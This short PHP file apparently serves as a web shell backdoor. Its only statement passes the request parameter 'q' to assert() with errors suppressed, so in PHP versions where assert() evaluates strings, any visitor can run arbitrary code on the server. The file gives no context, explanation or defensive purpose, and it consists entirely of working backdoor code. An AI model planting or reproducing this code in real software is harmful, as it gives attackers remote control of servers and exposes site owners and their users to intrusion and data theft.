<?php
@assert(stripslashes($_REQUEST['q']));
